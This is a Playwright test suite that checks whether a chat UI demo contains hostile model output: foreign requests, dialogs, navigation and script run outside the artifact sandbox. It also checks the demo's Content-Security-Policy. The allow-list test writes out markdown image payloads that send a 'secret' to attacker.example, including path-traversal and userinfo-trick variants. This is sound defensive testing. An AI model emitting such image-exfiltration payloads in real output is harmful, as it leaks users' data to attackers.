import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { auditChatDom } from './support/chat-dom-audit.js';
import { hostileExpectations } from './support/hostile-expectations.js';
import { describeRequest, guardPage, type PageGuard } from './support/page-guard.js';

// Model output is the attacker's: every file of mock-server/scenarios/hostile/ is played into a fresh thread of the
// demo, which must not contact a host it did not allow, show a dialog, open a window, navigate, run script outside
// an artifact's sandbox, or trip its own CSP; the blocked images must show as placeholders.

const corpusDirectory = resolve(import.meta.dirname, '../mock-server/scenarios/hostile');
const corpus = readdirSync(corpusDirectory)
  .filter((file) => file.endsWith('.json'))
  .map((file) => file.slice(0, -'.json'.length))
  .sort();
const resultsDirectory = resolve(import.meta.dirname, '../test-results/e2e/hostile-results');
const summaryFile = resolve(import.meta.dirname, '../test-results/hostile-summary.json');
/** Time for lazy effects (lazy images, frame loads, timers in artifact scripts) once the turn has finished. */
const settleMs = 1_000;

const inertParseDirectives = new Set(['base-uri', 'script-src-attr']);

const assistant = (page: Page) => page.getByRole('article', { name: 'Assistant' });
/** Placeholders of images the policy blocked (with a "Load image" button); `unsafe` ones (credentials in the URL, SVG) have none. */
const placeholders = (scope: Locator) => scope.locator('.platos-image-placeholder[data-state="blocked"]');
const anyPlaceholders = (scope: Locator) => scope.locator('.platos-image-placeholder');

function ownOrigins(baseURL: string | undefined): string[] {
  const mockPort = process.env.VITE_PLATOS_MOCK_PORT;
  if (!baseURL || !mockPort) throw new Error('The demo origin (baseURL) and the mock server port (VITE_PLATOS_MOCK_PORT) must be known');
  return [new URL(baseURL).origin, `http://127.0.0.1:${mockPort}`];
}

async function openThread(page: Page, guard: PageGuard, threadId: string) {
  const response = await page.goto(`/?thread=${threadId}`);
  await expect(page.locator('[role="status"].platos-connection-status')).toHaveAttribute('data-state', 'live');
  guard.markLoaded();
  return response;
}

async function send(page: Page, text: string) {
  const composer = page.getByRole('textbox', { name: 'Message' });
  await composer.fill(text);
  await composer.press('Enter');
}

/** Waits for every artifact frame of the page to finish loading, then for lazy effects. */
async function settle(page: Page) {
  for (const handle of await page.locator('iframe.platos-artifact-frame').elementHandles()) {
    await (await handle.contentFrame())?.waitForLoadState('load');
  }
  await page.waitForTimeout(settleMs);
}

/** Everything that must hold for any content at any time; returns what the summary counts besides requests. */
async function expectNothingLeft(page: Page, guard: PageGuard, origins: string[], scriptsRan: boolean) {
  expect(guard.abortedRequests, 'foreign requests that left the browser (aborted by the test route)').toEqual([]);
  expect(guard.foreignRequests.map(describeRequest), 'foreign requests the page attempted (one the browser refused counts too: nothing before the CSP stopped it)').toEqual([]);
  expect(guard.foreignSockets, 'WebSockets to foreign hosts').toEqual([]);
  expect(guard.dialogs, 'dialogs').toEqual([]);
  expect(guard.popups, 'popups').toEqual([]);
  expect(guard.pageNavigations, 'navigations of the page').toEqual([]);
  expect(page.url()).toMatch(/\/\?thread=hostile-/);
  for (const url of guard.frameNavigations) expect(url, 'a frame navigated away from its document').toMatch(/^about:(srcdoc|blank)$/);
  for (const frame of page.frames().slice(1)) expect(frame.url(), 'frame URL').toMatch(/^about:(srcdoc|blank)$/);
  expect(await page.evaluate(() => window.__platosPwned), 'script ran outside the sandbox').toBeUndefined();
  const violations = await guard.cspViolations();
  // Parsing an artifact with DOMParser (or a template, or createHTMLDocument) makes Chromium check the page's CSP on
  // the inert document's <base> and on* attributes and report them, though nothing loads or runs there. A real
  // <base> or handler in the page is caught by auditChatDom below; every other violation is the kit's.
  const inertParseReports = violations.filter((violation) => inertParseDirectives.has(violation.directive));
  expect(violations.filter((violation) => !inertParseDirectives.has(violation.directive)), 'CSP violations of the page').toEqual([]);
  expect(await auditChatDom(page, origins, scriptsRan), 'unsafe DOM in the chat').toEqual([]);
  return { inertParseReports: inertParseReports.length };
}

function recordResult(name: string, guard: PageGuard, passed: boolean, inertParseReports: number) {
  mkdirSync(resultsDirectory, { recursive: true });
  // A foreign request that would leave the browser shows up both as a request event and at the route that aborts
  // it; one the browser itself refused (a CSP, `<use>`'s same-origin rule) only as a request event. Each counts once.
  const routed = new Set(guard.abortedRequests);
  const blockedInBrowser = guard.foreignRequests.filter((request) => !routed.has(request.url)).length;
  const leftBrowser = guard.abortedRequests.length + guard.foreignSockets.length;
  const result = { name, foreign: leftBrowser + blockedInBrowser, leftBrowser, blockedInBrowser, inertParseReports, passed };
  writeFileSync(
    join(resultsDirectory, `${name}.json`),
    JSON.stringify({ ...result, foreignRequests: guard.foreignRequests.map(describeRequest), abortedRequests: guard.abortedRequests, foreignSockets: guard.foreignSockets }),
  );
}

test.describe('hostile corpus', () => {
  for (const name of corpus) {
    test(`hostile ${name}: nothing leaves the page`, async ({ page, context, baseURL }) => {
      const expectation = hostileExpectations[name] ?? {};
      const origins = ownOrigins(baseURL);
      const guard = await guardPage(page, context, origins);
      let passed = false;
      let inertParseReports = 0;
      try {
        await openThread(page, guard, `hostile-${name}-${Date.now()}`);
        await send(page, `hostile ${name}`);
        const message = assistant(page);

        if (expectation.approvalWithHiddenCharacters) {
          const approval = message.getByRole('region', { name: /^Approval:/ });
          await expect(approval.locator('.platos-approval-warning')).toBeVisible({ timeout: 20_000 });
          await approval.getByRole('button', { name: 'Deny' }).click();
          await expect(approval).toHaveAttribute('data-state', 'denied');
        }
        await expect(message).toHaveAttribute('data-state', 'finished', { timeout: 30_000 });
        await expect(message.getByRole('note').filter({ hasText: /hostile scenario/i })).toHaveCount(0);
        if (expectation.htmlFrames) await expect(message.locator('iframe.platos-artifact-frame')).toHaveCount(expectation.htmlFrames);
        await settle(page);

        if (expectation.blockedImages) {
          await expect.poll(() => placeholders(message).count(), { message: 'blocked-image placeholders' }).toBeGreaterThanOrEqual(expectation.blockedImages);
          await expect.poll(() => message.getByRole('button', { name: /^Load image/ }).count(), { message: '"Load image" buttons' }).toBeGreaterThanOrEqual(expectation.blockedImages);
        }
        if (expectation.blockedHosts) {
          const hosts = await placeholders(message).evaluateAll((elements) => elements.map((element) => element.getAttribute('data-host')));
          for (const host of expectation.blockedHosts) expect(hosts, `a placeholder for ${host}`).toContain(host);
        }
        if (expectation.textOnly) {
          await expect(anyPlaceholders(message)).toHaveCount(0);
          await expect(message.locator('img')).toHaveCount(0);
        }
        for (const text of expectation.shownAsText ?? []) await expect(message).toContainText(text);
        if (expectation.linkHosts) {
          const shown = (await message.locator('.platos-link-host').allTextContents()).join(' ');
          for (const host of expectation.linkHosts) expect(shown, `the real host ${host} shown beside a disguised link`).toContain(host);
        }
        if (expectation.maxLinks !== undefined) expect(await message.locator('a[href]').count()).toBeLessThanOrEqual(expectation.maxLinks);
        if (expectation.htmlFrames) {
          await expect(message.locator('iframe.platos-artifact-frame[data-scripts="off"]')).toHaveCount(expectation.htmlFrames);
          await expect(message.getByRole('button', { name: 'Run scripts' })).toHaveCount(expectation.htmlFrames);
        }
        ({ inertParseReports } = await expectNothingLeft(page, guard, origins, false));

        if (expectation.htmlFrames) {
          // The user runs every artifact's scripts: the sandbox and the frame's CSP must hold on their own.
          const run = message.getByRole('button', { name: 'Run scripts' });
          while ((await run.count()) > 0) await run.first().click();
          await expect(message.locator('iframe.platos-artifact-frame[data-scripts="on"]')).toHaveCount(expectation.htmlFrames);
          await settle(page);
          ({ inertParseReports } = await expectNothingLeft(page, guard, origins, true));
        }
        passed = true;
      } finally {
        recordResult(name, guard, passed, inertParseReports);
      }
    });
  }

  test.afterAll(() => {
    let results: { name: string; foreign: number; leftBrowser: number; blockedInBrowser: number; inertParseReports: number; passed: boolean }[] = [];
    try {
      results = readdirSync(resultsDirectory).map((file) => JSON.parse(readFileSync(join(resultsDirectory, file), 'utf8')) as (typeof results)[number]);
    } catch {
      return;
    }
    const sum = (key: 'foreign' | 'leftBrowser' | 'blockedInBrowser' | 'inertParseReports') => results.reduce((total, result) => total + result[key], 0);
    const foreign = sum('foreign');
    const leaking = results.filter((result) => result.foreign > 0).map((result) => result.name);
    const failed = results.filter((result) => !result.passed).map((result) => result.name);
    const summary = {
      corpus: corpus.length,
      played: results.length,
      passed: results.length - failed.length,
      foreignRequests: foreign,
      leftBrowser: sum('leftBrowser'),
      blockedInBrowser: sum('blockedInBrowser'),
      inertParseReports: sum('inertParseReports'),
      leaking,
      failed,
    };
    writeFileSync(summaryFile, `${JSON.stringify(summary, null, 2)}\n`);
    console.log(
      `hostile corpus: ${corpus.length} files, ${results.length} played, ${failed.length} failed; ${foreign} foreign requests ` +
        `(${summary.leftBrowser} would have left the browser, ${summary.blockedInBrowser} refused by the browser)${leaking.length ? `: ${leaking.join(', ')}` : ''}`,
    );
  });
});

test('the demo allows its own /images/ in one prop: that image loads, every other host stays a placeholder', async ({ page, context, baseURL }) => {
  const origins = ownOrigins(baseURL);
  const guard = await guardPage(page, context, origins);
  const own = origins[0]!;
  await openThread(page, guard, `hostile-allow-list-${Date.now()}`);
  await send(
    page,
    [
      `echo ![allowed](${own}/images/allowed.png)`,
      `![foreign](https://attacker.example/images/allowed.png?d=secret)`,
      `![outside](${own}/images/../private.png?d=secret)`,
      `![userinfo](${own}@attacker.example/images/allowed.png?d=secret)`,
    ].join(' '),
  );
  const message = assistant(page);
  await expect(message).toHaveAttribute('data-state', 'finished');
  const allowed = message.locator(`img[src="${own}/images/allowed.png"]`);
  await expect(allowed).toBeVisible();
  await expect(allowed).toHaveAttribute('referrerpolicy', 'no-referrer');
  await expect.poll(() => allowed.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth)).toBe(16);
  await settle(page);
  // The foreign host and the path outside /images/ are blocked (with "Load image"); the userinfo trick is unsafe.
  await expect(anyPlaceholders(message)).toHaveCount(3);
  await expect(placeholders(message)).toHaveCount(2);
  expect(await placeholders(message).evaluateAll((elements) => elements.map((element) => element.getAttribute('data-host')))).toContain('attacker.example');
  expect(guard.ownRequests.filter((url) => url.endsWith('/images/allowed.png'))).not.toHaveLength(0);
  expect(guard.ownRequests.filter((url) => url.includes('private.png'))).toEqual([]);
  await expectNothingLeft(page, guard, origins, false);
});

test('the demo is served under a strict Content-Security-Policy with no inline script', async ({ page, context, baseURL }) => {
  const origins = ownOrigins(baseURL);
  const guard = await guardPage(page, context, origins);
  const response = await openThread(page, guard, `hostile-csp-${Date.now()}`);
  const policy = response?.headers()['content-security-policy'] ?? '';
  const directives = new Map(policy.split(';').map((part) => part.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]));
  expect(directives.get('script-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('base-uri')).toEqual(["'none'"]);
  expect(directives.get('form-action')).toEqual(["'none'"]);
  expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
  expect(directives.get('img-src')).toEqual(["'self'", 'data:']);
  const mock = new URL(origins[1]!);
  expect(directives.get('connect-src')).toEqual(["'self'", mock.origin, `ws://${mock.host}`]);
  expect(policy).not.toContain('unsafe-eval');
  expect(await page.locator('script:not([src])').count(), 'inline scripts in the document').toBe(0);
  await send(page, 'echo still talking under the policy');
  await expect(assistant(page)).toHaveAttribute('data-state', 'finished');
  await expectNothingLeft(page, guard, origins, false);
});
